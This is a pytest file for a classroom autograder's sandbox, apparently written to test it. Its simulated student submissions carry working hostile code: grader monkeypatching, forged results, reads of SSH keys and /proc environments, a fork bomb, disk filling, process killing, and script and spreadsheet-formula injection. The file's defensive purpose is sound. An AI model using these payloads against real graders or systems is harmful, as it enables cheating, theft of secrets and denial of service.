"""Students who attack the grader, each as an attacker would write it.

One class is graded once with ``sweepgrad grade`` (exercise 1.1, a small
time limit; a class of three for 2.2's sweep): two honest students (the
key, full marks; the starter, nothing) and one attacker per attack, each
starting from the starter, so an attack that worked would show as points
the starter does not earn. Each
test asserts what its attacker got (never more than the honest starter's
0, unless the attack is an honest answer), that the honest students' grades
are what they are alone, and that ``grades.csv`` was written. The teacher's
secrets (an environment variable, a file in the teacher's folder and home,
the key's sources) must appear nowhere in what grading writes.

Needs bubblewrap (``make test`` installs it); without it the tests skip.
"""

from __future__ import annotations

import csv
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import engine
from engine.app.classroom.sandbox import Isolation, SandboxUnavailable

try:
    Isolation.bubblewrap()
    SANDBOX = True
except SandboxUnavailable:
    SANDBOX = False

pytestmark = pytest.mark.skipif(not SANDBOX, reason="bubblewrap cannot run here")

SECRET = "teacher-secret-7f3a91"  # in the grader's environment, folder and home
MARKER = "4242.125"  # a daemon's `sleep` argument, to find it among all processes
PACKAGE = Path(engine.__file__).parent
CHECKS_INIT = PACKAGE / "app" / "classroom" / "checks" / "__init__.py"

# What an attacker appends to the starter's ops.py (1.1: add, mul, div, power).
ATTACKS: dict[str, str] = {
    # Replace the registered checks and the helpers they use, at import.
    "patches_checks": """
from engine.app.classroom import registry, diagnose
import engine.app.classroom.checks.ops as ops_checks
for ex in registry.EXERCISES.values():
    ex.checks[:] = []
diagnose.compare_function = lambda *a, **k: None
ops_checks.compare_function = lambda *a, **k: None
registry.summarise = lambda ex, results, files: registry.ExerciseResult(
    ex.number, ex.title, "passed", ex.points, ex.points, "all checks passed", files, [])
""",
    "patches_math": """
import math
math.isclose = lambda *a, **k: True
def add(a, b):
    return (0.0, (0.0, 0.0))
""",
    # Forge the grader's messages on every file descriptor it can find.
    "forges_results": """
import json, os
def add(a, b):
    forged = [{"result": {"exercise": "1.1", "title": "", "status": "passed",
                          "points": 1e6, "max_points": 2, "message": "ok"}},
              {"done": True}, {"ready": True, "exit": 0},
              {"returned": {"nodes": {}, "value": [a + b, [1.0, 1.0]]}, "after": {},
               "measured": {"depth": 0, "raised_limit": False, "reached": []}, "x": 1}]
    for fd in range(64):
        for message in forged:
            try:
                os.write(fd, (json.dumps(message) + "\\n").encode())
            except OSError:
                pass
    return (0.0, (0.0, 0.0))
""",
    "sends_malformed_results": """
import os
def add(a, b):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
def mul(a, b):
    for fd in range(64):
        try:
            os.write(fd, b"[" * 200_000 + b"\\n")
            os.write(fd, b'{"returned": {"nodes": 1, "value": {"K": 5, "kind": "x"}}}\\n')
        except OSError:
            pass
    return (a * b, (b, a))
def div(a, b):
    for fd in range(64):
        try:
            os.write(fd, b"x" * (70 * 1024 * 1024))
        except OSError:
            pass
    return 0
""",
    # Reads everything it can reach and puts it in the grades (an exception's message).
    "reads_secrets": """
import glob, os
def add(a, b):
    found = [os.environ.get("SWEEPGRAD_TEACHER_SECRET", "")]
    paths = ["/proc/1/environ", "/proc/self/environ", os.path.expanduser("~/.ssh/id_rsa"),
             "/root/.ssh/id_rsa", "/root/secret.txt"]
    paths += glob.glob("/proc/*/cwd/*") + glob.glob("/proc/*/environ")
    for top in ("/root", "/home", "/tmp", "/work", "/mnt", "/srv", "/opt", "/var"):
        for folder, _, files in os.walk(top):
            paths += [os.path.join(folder, f) for f in files
                      if f in ("secret.txt", "ops.ipynb", "ops.py", "grades.csv")]
    for path in paths:
        try:
            found.append(open(path, errors="replace").read(4000))
        except OSError:
            pass
    raise ValueError(" | ".join(found)[:900])
""",
    "runs_the_key": """
import tempfile
def add(a, b):
    from engine.app.classroom.release import release
    out = tempfile.mkdtemp()
    release(out, solutions=True)
    namespace = {}
    exec(open(out + "/modules/ops.py").read(), namespace)
    return namespace["add"](a, b)
""",
    "writes_everywhere": f"""
import glob, os
TARGETS = [{str(CHECKS_INIT)!r}, "EXTRA/evil.py", "CLASS/ada/ops.py", "CLASS/grades.csv"]
for target in TARGETS:
    try:
        with open(target, "a") as file:
            file.write("\\nraise SystemExit('owned')\\n")
    except OSError:
        pass
""",
    "leaves_a_daemon": f"""
import os, time
def add(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", ["sleep", "{MARKER}"])
        os._exit(0)
    return (0.0, (0.0, 0.0))
""",
    "forks_a_bomb": """
import os
def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "fills_the_disk": """
import os
def add(a, b):
    block = b"x" * (1 << 20)
    for folder in (os.getcwd(), "/tmp", os.path.expanduser("~"), "/root", "/var/tmp"):
        try:
            with open(os.path.join(folder, "fill"), "wb") as file:
                for _ in range(2048):
                    file.write(block)
        except OSError:
            pass
    return (0.0, (0.0, 0.0))
""",
    "uses_the_network": """
import socket
def add(a, b):
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"leak")
    except OSError:
        pass
    return (0.0, (0.0, 0.0))
""",
    "kills_the_grader": """
import os, signal
def add(a, b):
    for pid in [os.getppid(), 1, -1] + list(range(2, 5000)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return (0.0, (0.0, 0.0))
""",
    "html_in_the_report": """
def add(a, b):
    raise ValueError("<script>alert('grades')</script><img src=x onerror=alert(1)>")
""",
}

# 2.2: the engine's own sweep, with the profile hook that once caught it switched off.
PROFILE_TRICK = """
import sys
from engine import backward as engine_backward
def backward(root):
    sys.setprofile(None)
    sys.settrace(None)
    engine_backward(root)
"""

NAMES = {"formula": "=HYPERLINK(\"x\",\"click\")", "at_sign": "@SUM(A1)",
         "html": "<img src=x onerror=alert(1)>", "newline": "eve\nada  3 / 3"}


def build_class(release: Path, root: Path, extra: Path, port: int) -> Path:
    root.mkdir()
    shutil.copytree(release / "key" / "modules", root / "ada")
    shutil.copytree(release / "starter" / "modules", root / "bo")
    for name, code in ATTACKS.items():
        folder = root / name
        shutil.copytree(release / "starter" / "modules", folder)
        code = code.replace("EXTRA", str(extra)).replace("CLASS", str(root))
        code = code.replace("PORT", str(port))
        with open(folder / "ops.py", "a", encoding="utf-8") as file:
            file.write("\n\n" + code)
    links = root / "links_to_the_key"
    links.mkdir()
    for chapter in ("ops", "graph"):
        (links / f"{chapter}.py").symlink_to(release / "key" / "modules" / f"{chapter}.py")
    for folder in NAMES.values():
        shutil.copytree(release / "starter" / "modules", root / folder)
    hostile_files(root / "fifo")
    return root


def hostile_files(folder: Path) -> None:
    folder.mkdir()
    os.mkfifo(folder / "graph.ipynb")  # would block a reader for ever
    (folder / "ops.ipynb").symlink_to("/dev/zero")  # would never end


def build_graph_class(release: Path, root: Path) -> Path:
    """Exercise 2.2's class: the key, the profile trick, the FIFO."""
    root.mkdir()
    shutil.copytree(release / "key" / "modules", root / "ada")
    trick = root / "profile_trick"
    shutil.copytree(release / "starter" / "modules", trick)
    with open(trick / "graph.py", "a", encoding="utf-8") as file:
        file.write("\n\n" + PROFILE_TRICK)
    hostile_files(root / "fifo")
    return root


@pytest.fixture(scope="module")
def attacked(release: Path, tmp_path_factory) -> dict:
    base = tmp_path_factory.mktemp("attacks")
    teacher = base / "teacher"
    teacher.mkdir()
    (teacher / "secret.txt").write_text(SECRET, encoding="utf-8")
    extra = teacher / "extra"
    extra.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    contacted: list[bytes] = []

    def serve() -> None:
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline and not stop.is_set():
            try:
                connection, _ = listener.accept()
                contacted.append(connection.recv(100))
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    classroom = build_class(release, base / "class", extra, listener.getsockname()[1])
    before = CHECKS_INIT.read_bytes()
    graph_class = build_graph_class(release, base / "graph_class")

    def sweepgrad_grade(exercise: str, *out: str) -> subprocess.CompletedProcess:
        folder = classroom if exercise == "1.1" else graph_class
        command = [sys.executable, "-m", "engine.app.cli", "grade", str(folder),
                   "--exercises", exercise, "--quiet", "--time-limit", "20", "--jobs", "2",
                   "--extra-checks", str(extra), *out]
        return subprocess.run(command, cwd=teacher, capture_output=True, text=True,
                              timeout=900, env={**os.environ, "SWEEPGRAD_TEACHER_SECRET": SECRET})

    run = sweepgrad_grade("1.1", "--out", str(classroom / "grades.csv"), "--report",
                          str(teacher / "grades.md"))
    graph = sweepgrad_grade("2.2", "--out", str(teacher / "graph.csv"))
    written = (classroom / "grades.csv").read_text(encoding="utf-8")
    time.sleep(2)  # a daemon that survived would act now
    stop.set()
    thread.join()
    return {"run": run, "graph": graph, "class": classroom, "teacher": teacher,
            "csv": written, "csv_later": (classroom / "grades.csv").read_text(encoding="utf-8"),
            "checks_before": before, "contacted": contacted, "extra": extra}


def rows(text: str) -> dict[str, list[str]]:
    return {row[0]: row for row in list(csv.reader(text.splitlines()))[1:]}


def points(attacked: dict, student: str) -> float:
    return float(rows(attacked["csv"])[student][2])


def test_grading_finished_and_wrote_the_csv(attacked: dict):
    assert attacked["run"].returncode == 0, attacked["run"].stdout + attacked["run"].stderr
    assert "isolation: bubblewrap" in attacked["run"].stdout
    assert len(rows(attacked["csv"])) == 2 + len(ATTACKS) + 2 + len(NAMES)


def test_the_honest_students_are_graded_as_alone(attacked: dict):
    table = rows(attacked["csv"])
    assert table["ada"][2:5] == ["2", "2", "passed"]
    assert table["bo"][2:5] == ["0", "2", "failed"]
    assert table["bo"][5].startswith("not implemented yet")


@pytest.mark.parametrize("attacker", sorted(ATTACKS))
def test_an_attack_earns_nothing(attacked: dict, attacker: str):
    row = rows(attacked["csv"])[attacker]
    assert float(row[2]) == 0.0, row
    assert float(row[3]) == 2.0


def test_patched_checks_and_math_stay_in_the_sandbox(attacked: dict):
    table = rows(attacked["csv"])
    assert table["patches_checks"][4] == "failed"
    assert table["patches_math"][4] == "failed" and "expected" in table["patches_math"][5]


def test_forged_and_malformed_messages_are_the_senders_error(attacked: dict):
    table = rows(attacked["csv"])
    for attacker in ("forges_results", "sends_malformed_results"):
        assert table[attacker][4] in ("error", "failed"), table[attacker]
    assert max(float(r[2]) for r in table.values()) <= 2.0


def test_no_secret_reaches_the_grades(attacked: dict):
    report = (attacked["teacher"] / "grades.md").read_text(encoding="utf-8")
    for text in (attacked["csv"], report, attacked["run"].stdout):
        assert SECRET not in text
        assert "BEGIN SOLUTION" not in text and "return (a + b" not in text
    message = rows(attacked["csv"])["reads_secrets"][5]
    assert "ValueError" in message  # it ran, and found nothing worth showing


def test_the_key_cannot_be_released_inside_the_sandbox(attacked: dict):
    row = rows(attacked["csv"])["runs_the_key"]
    assert row[4] == "failed" and "no source notebooks" in row[5]


def test_symlinks_out_of_a_submission_are_not_followed(attacked: dict):
    row = rows(attacked["csv"])["links_to_the_key"]
    assert row[2] == "0" and row[4] == "missing"


def test_nothing_outside_the_sandbox_was_written(attacked: dict):
    assert CHECKS_INIT.read_bytes() == attacked["checks_before"]
    assert not (attacked["extra"] / "evil.py").exists()
    assert "owned" not in (attacked["class"] / "ada" / "ops.py").read_text(encoding="utf-8")
    assert attacked["csv_later"] == attacked["csv"]
    assert not any(attacked["class"].rglob("fill")) and not (Path.home() / "fill").exists()


def test_a_fifo_or_a_device_is_refused_not_read(attacked: dict):
    assert rows(attacked["csv"])["fifo"][4] == "missing"  # the link to /dev/zero: not followed
    table = rows((attacked["teacher"] / "graph.csv").read_text(encoding="utf-8"))
    assert table["fifo"][4] == "error" and "not a regular file" in table["fifo"][5]


def test_no_process_outlives_grading(attacked: dict):
    survivors = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if MARKER.encode() in command:
            survivors.append(entry.name)
    assert survivors == []


def test_the_network_is_closed(attacked: dict):
    assert attacked["contacted"] == []


def test_the_engines_sweep_is_not_there_to_call(attacked: dict):
    graph = attacked["graph"]
    assert graph.returncode == 0, graph.stdout + graph.stderr
    table = rows((attacked["teacher"] / "graph.csv").read_text(encoding="utf-8"))
    assert table["profile_trick"][2] == "0"
    assert "engine's answer" in table["profile_trick"][5] or "not available" in \
        table["profile_trick"][5]
    assert table["ada"][2:5] == ["3", "3", "passed"]


def test_names_cannot_forge_formulas_markup_or_rows(attacked: dict):
    text = attacked["csv"]
    cells = [row[0] for row in csv.reader(text.splitlines())]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert "'=HYPERLINK" in text and "'@SUM" in text
    report = (attacked["teacher"] / "grades.md").read_text(encoding="utf-8")
    assert "<img" not in report and "<script" not in report and "&lt;script&gt;" in report
    summary = attacked["run"].stdout
    assert "eve\\nada  3" in summary and "\nada  3 / 3" not in summary


def test_outputs_are_readable_by_all(attacked: dict):
    for path in (attacked["class"] / "grades.csv", attacked["teacher"] / "grades.md"):
        assert path.stat().st_mode & 0o777 == 0o666 & ~current_umask()


def current_umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_without_bubblewrap_grading_refuses_unless_asked(tmp_path: Path, release: Path):
    shutil.copytree(release / "starter" / "modules", tmp_path / "class" / "bo")
    env = {**os.environ, "PATH": str(tmp_path)}  # no bwrap on this PATH
    command = [sys.executable, "-m", "engine.app.cli", "grade", str(tmp_path / "class"),
               "--exercises", "1.1", "--quiet", "--out", str(tmp_path / "g.csv")]
    refused = subprocess.run(command, capture_output=True, text=True, timeout=300, env=env)
    assert refused.returncode == 2
    assert "bubblewrap" in refused.stderr and "--no-sandbox" in refused.stderr
    assert not (tmp_path / "g.csv").exists()
    unconfined = subprocess.run([*command, "--no-sandbox", "--report", str(tmp_path / "g.md")],
                                capture_output=True, text=True, timeout=300, env=env)
    assert unconfined.returncode == 0, unconfined.stderr
    assert "WITHOUT a sandbox" in unconfined.stdout and "isolation: NONE" in unconfined.stdout
    assert "isolation: NONE" in (tmp_path / "g.md").read_text(encoding="utf-8")
    assert rows((tmp_path / "g.csv").read_text(encoding="utf-8"))["bo"][2] == "0"
